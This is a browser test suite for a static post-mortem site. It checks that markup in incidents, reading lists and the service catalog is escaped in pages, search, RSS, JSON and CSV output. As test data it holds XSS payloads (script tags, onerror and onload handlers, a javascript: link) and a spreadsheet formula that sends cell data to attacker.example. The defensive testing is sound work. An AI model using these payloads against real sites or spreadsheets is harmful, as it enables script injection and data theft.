import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cpSync, mkdtempSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import matter from 'gray-matter';
import { XMLParser } from 'fast-xml-parser';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { parse as parseYaml } from 'yaml';
import { serveStatic } from '../../src/tooling/static-server.ts';
import { launchTestChromium } from '../support/browser.ts';
import { buildSite, PROJECT } from '../support/build-site.ts';

const ARCHIVE = join(PROJECT, 'tests/fixtures/markup-text');
const ID = '2026-03-10-markup-in-every-field';
const SITE = 'http://localhost:4321';

/** The fixture as written: every string below must come out of the build exactly like this. */
const incident = matter(readFileSync(join(ARCHIVE, `incidents/2026/${ID}.mdx`), 'utf8')).data;
const list = matter(readFileSync(join(ARCHIVE, 'reading-lists/markup.mdx'), 'utf8')).data;
const organisation = parseYaml(readFileSync(join(ARCHIVE, 'catalog/organisation.yaml'), 'utf8'));
const [service] = parseYaml(readFileSync(join(ARCHIVE, 'catalog/services.yaml'), 'utf8'));
const [team] = parseYaml(readFileSync(join(ARCHIVE, 'catalog/teams.yaml'), 'utf8'));
const ACTION = incident.action_items[0];

let dist: string;
let server: Awaited<ReturnType<typeof serveStatic>>;
let browser: Browser;

beforeAll(async () => {
  dist = buildSite({ archive: ARCHIVE, today: '2026-11-26' });
  server = await serveStatic(dist);
  browser = await launchTestChromium();
});
afterAll(async () => {
  await browser?.close();
  await server?.close();
});

/**
 * A context with the site's Content-Security-Policy switched off, so that only escaping stands between
 * the fixture's markup and the page: a dialog or `window.pwned` would mean it ran.
 */
async function unprotected(): Promise<{ context: BrowserContext; page: Page; ran: () => Promise<string[]> }> {
  const context = await browser.newContext({ bypassCSP: true });
  const page = await context.newPage();
  const dialogs: string[] = [];
  page.on('dialog', async (dialog) => {
    dialogs.push(`dialog: ${dialog.message()}`);
    await dialog.dismiss();
  });
  const ran = async () => {
    const pwned = await page.evaluate(() => (window as unknown as { pwned?: unknown }).pwned);
    return pwned === undefined ? dialogs : [...dialogs, `window.pwned = ${String(pwned)}`];
  };
  return { context, page, ran };
}

/** Elements the fixture's markup would have created, had any of it been parsed as HTML. */
const INJECTED = 'img, iframe, marquee, svg:not(.chart-plot), script:not([src]), [onerror], [onload], main i, main em, main b, code code';

describe('markup written in post-mortems, reading lists and the catalog', () => {
  it('builds, and the build finds no inline code in any page', () => {
    expect(readFileSync(join(dist, '_headers'), 'utf8')).toContain("style-src 'self';");
  });

  it('reads as the same text on every page, and none of it runs even without the Content-Security-Policy', async () => {
    const { context, page, ran } = await unprotected();
    const expected: Record<string, string[]> = {
      '/': [incident.title, organisation.tagline],
      '/incidents/': [incident.title],
      [`/incidents/${ID}/`]: [
        incident.title,
        incident.summary,
        incident.response.rationale,
        incident.response.helped_by[0],
        incident.authors[0],
        incident.release.ref,
        incident.customer_impact.description,
        incident.contributing_factors[0].description,
        ACTION.title,
        ACTION.owner,
        incident.timeline[0].text,
        "<script>window.pwned='body'</script>",
        '<img src=x onerror=alert(1)>',
        'a < b > c',
        list.title,
        service.slos[0].name,
      ],
      '/services/': [service.description],
      '/services/checkout-api/': [service.description, service.slos[0].name, incident.title],
      '/teams/payments/': [team.contact, incident.title],
      '/tags/checkout/': [incident.title],
      '/reading-lists/': [list.title, list.audience],
      '/reading-lists/markup/': [list.title, list.audience, list.items[0].why, incident.title],
      '/start-here/teams/payments/': [incident.title],
      '/trends/': [incident.title],
      '/trends/action-items/': [ACTION.title, ACTION.owner, incident.title],
      '/trends/error-budgets/': [service.slos[0].name],
      '/trends/decision-guide/': [service.slos[0].name],
      '/trends/recurrences/': [],
      '/trends/services/checkout-api/': [],
    };
    const missing: Record<string, string[]> = {};
    for (const [path, texts] of Object.entries(expected)) {
      const response = await page.goto(`${server.url}${path}`);
      expect(response!.status(), path).toBe(200);
      // textContent, not innerText: tables folded into a closed <details> hold text too.
      const text = (await page.locator('body').textContent()) ?? '';
      const absent = texts.filter((t) => !text.includes(t));
      const injected = await page.locator(INJECTED).evaluateAll((nodes) => nodes.map((n) => n.outerHTML.slice(0, 80)));
      if (absent.length > 0 || injected.length > 0) missing[path] = [...absent, ...injected];
    }
    expect(missing).toEqual({});
    expect(await ran()).toEqual([]);
    await context.close();
  });

  it('keeps titles, descriptions and labels exact in the head and in attributes', async () => {
    const { context, page, ran } = await unprotected();
    await page.goto(`${server.url}/incidents/${ID}/`);
    expect(await page.title()).toBe(`${incident.title} · ${organisation.title}`);
    expect(await page.locator('h1').textContent()).toBe(incident.title);
    expect(await page.locator('meta[name="description"]').getAttribute('content')).toBe(incident.summary);
    expect(await page.locator('.list-position[data-list-position="markup"]').getAttribute('aria-label')).toBe(
      `Reading list: ${list.title}`,
    );
    await page.goto(`${server.url}/services/checkout-api/`);
    expect(await page.locator('meta[name="description"]').getAttribute('content')).toBe(service.description);
    await page.goto(`${server.url}/`);
    expect(await page.locator('meta[name="description"]').getAttribute('content')).toBe(organisation.tagline);
    expect(await ran()).toEqual([]);
    await context.close();
  });

  it('is found by search and shown as text: the title, and the excerpt around the match', async () => {
    const { context, page, ran } = await unprotected();
    await page.goto(`${server.url}/search/?q=zzbody`);
    const title = page.locator('.search-result-title > a');
    await expect.poll(() => title.allTextContents(), { timeout: 15_000 }).toEqual([incident.title]);
    expect(await title.getAttribute('href')).toBe(`/incidents/${ID}/`);
    const excerpt = page.locator('.search-result-excerpt').first();
    expect(await excerpt.textContent()).toContain(
      "Zzbody The error page printed <script>window.pwned='body'</script> and <img src=x onerror=alert(1)>",
    );
    expect(await excerpt.locator('mark').allTextContents()).toEqual(['Zzbody']);
    expect(await page.locator(`#search :is(${INJECTED})`).count()).toBe(0);
    expect(await ran()).toEqual([]);
    await context.close();
  });

  it('comes back unchanged from the JSON API', () => {
    const all = JSON.parse(readFileSync(join(dist, 'api/incidents.json'), 'utf8'));
    const one = JSON.parse(readFileSync(join(dist, `api/incidents/${ID}.json`), 'utf8'));
    for (const record of [all.incidents[0], one]) {
      expect(record.title).toBe(incident.title);
      expect(record.summary).toBe(incident.summary);
      expect(record.authors).toEqual(incident.authors);
      expect(record.action_items[0].title).toBe(ACTION.title);
      expect(record.action_items[0].owner).toBe(ACTION.owner);
      expect(record.timeline[0].text).toBe(incident.timeline[0].text);
      expect(record.contributing_factors[0].description).toBe(incident.contributing_factors[0].description);
    }
    const items = JSON.parse(readFileSync(join(dist, 'trends/action-items.json'), 'utf8'));
    expect(items.items[0].title).toBe(ACTION.title);
  });

  it('is escaped XML text in the RSS feed, which parses back to the same strings', () => {
    const xml = readFileSync(join(dist, 'rss.xml'), 'utf8');
    expect(xml).not.toMatch(/<(img|script|b|i|em|svg)\b/);
    const feed = new XMLParser({ processEntities: true, htmlEntities: false }).parse(xml).rss.channel;
    expect(feed.title).toBe(organisation.title);
    expect(feed.description).toBe(organisation.tagline);
    expect(feed.item.title).toBe(incident.title);
    expect(feed.item.description).toBe(incident.summary);
    expect(feed.item.link).toBe(`${SITE}/incidents/${ID}/`);
  });

  it('is one text cell per field in the action-item CSV, with the formula neutralised', () => {
    expect(readFileSync(join(dist, 'trends/action-items.csv'), 'utf8').split('\r\n')[1]).toBe(
      `2026-12-01,false,P1,open,"'=HYPERLINK(""https://attacker.example/?d=""&A1,""Zzaction <img src=x onerror=window.pwned=1>"")",prevent,` +
        `'@payments <b>team</b>,payments,,${ID},"Zzmarkup <img src=x onerror=window.pwned='title'> checkout & <b>bold</b> ""quoted"" &amp; failed",` +
        `${SITE}/incidents/${ID}/`,
    );
  });

  it('never reaches the sitemap, whose addresses are plain', () => {
    const sitemaps = readdirSync(dist).filter((f) => /^sitemap.*\.xml$/.test(f));
    expect(sitemaps).toEqual(['sitemap-0.xml', 'sitemap-index.xml']);
    const locs = [...readFileSync(join(dist, 'sitemap-0.xml'), 'utf8').matchAll(/<loc>([^<]*)<\/loc>/g)].map((m) => m[1]!);
    expect(locs).toContain(`${SITE}/incidents/${ID}/`);
    for (const loc of locs) expect(loc, loc).toMatch(/^http:\/\/localhost:4321\/[a-z0-9/-]*$/);
  });
});

describe('the search page, given an index whose every string is markup', () => {
  // A stand-in for /pagefind/pagefind.js: the same API, answering with filter names and values,
  // titles, headings, excerpts and metadata made of markup, and a result whose address is a script.
  const STUB = `
const EVIL = '<img src=x onerror="window.pwned=1;alert(1)">';
const FILTERS = { ['team' + EVIL]: { ['Payments' + EVIL]: 2, Platform: 1 }, severity: { SEV1: 1 } };
const first = {
  url: '/incidents/x/',
  meta: { title: 'Title ' + EVIL, date: '<b>1 Jan</b>' },
  excerpt: 'before <mark>hit</mark> &lt;script&gt;window.pwned=2&lt;/script&gt; and ' + EVIL + ' after',
  sub_results: [{ title: 'Whole page', url: '/incidents/x/', excerpt: 'not shown', locations: [1] }],
};
const second = {
  url: 'javascript:window.pwned=4',
  meta: { title: 'Script address' },
  excerpt: 'not shown',
  sub_results: [{ title: 'Timeline <svg onload="window.pwned=3">', url: '/incidents/y/#timeline', excerpt: '<mark>hit</mark> &lt;b&gt;bold&lt;/b&gt;', locations: [1, 2] }],
};
const ANSWER = { results: [{ id: 'a', data: async () => first }, { id: 'b', data: async () => second }], filters: FILTERS, totalFilters: FILTERS };
export async function options() {}
export async function filters() { return FILTERS; }
export async function search() { return ANSWER; }
export async function debouncedSearch() { return ANSWER; }
`;

  it('builds every element as text, so nothing runs, and keeps the <mark> highlights', async () => {
    const copy = mkdtempSync(join(tmpdir(), 'hindsight-stub-search-'));
    cpSync(dist, copy, { recursive: true });
    writeFileSync(join(copy, 'pagefind/pagefind.js'), STUB);
    const stubServer = await serveStatic(copy);
    const { context, page, ran } = await unprotected();
    try {
      await page.goto(`${stubServer.url}/search/?q=hit`);
      await page.locator('.search-result-title').nth(1).waitFor({ timeout: 15_000 });
      const evil = '<img src=x onerror="window.pwned=1;alert(1)">';
      expect(await page.locator('.search-filter summary').allTextContents()).toEqual(['Severity', `Team${evil}`]);
      expect(await page.locator('.search-filter label').allTextContents()).toEqual([' SEV1 (1)', ` Payments${evil} (2)`, ' Platform (1)']);
      expect(await page.locator('.search-message').textContent()).toBe('2 results for hit');
      expect(await page.locator('.search-result-title').allTextContents()).toEqual([`Title ${evil}`, 'Script address']);
      expect(await page.locator('.search-result-title a').evaluateAll((links) => links.map((a) => a.getAttribute('href')))).toEqual([
        '/incidents/x/',
      ]);
      expect(await page.locator('.search-sub-result-title').allTextContents()).toEqual(['Timeline <svg onload="window.pwned=3">']);
      expect(await page.locator('.search-sub-result-title a').getAttribute('href')).toBe('/incidents/y/#timeline');
      expect(await page.locator('.search-result-excerpt').allTextContents()).toEqual([
        `before hit <script>window.pwned=2</script> and ${evil} after`,
        'hit <b>bold</b>',
      ]);
      expect(await page.locator('.search-result-excerpt mark').allTextContents()).toEqual(['hit', 'hit']);
      expect(await page.locator('.search-result-meta li').allTextContents()).toEqual(['Date: <b>1 Jan</b>']);
      expect(await page.locator(`#search :is(${INJECTED}, b)`).count()).toBe(0);
      expect(await ran()).toEqual([]);
    } finally {
      await context.close();
      await stubServer.close();
    }
  });
});
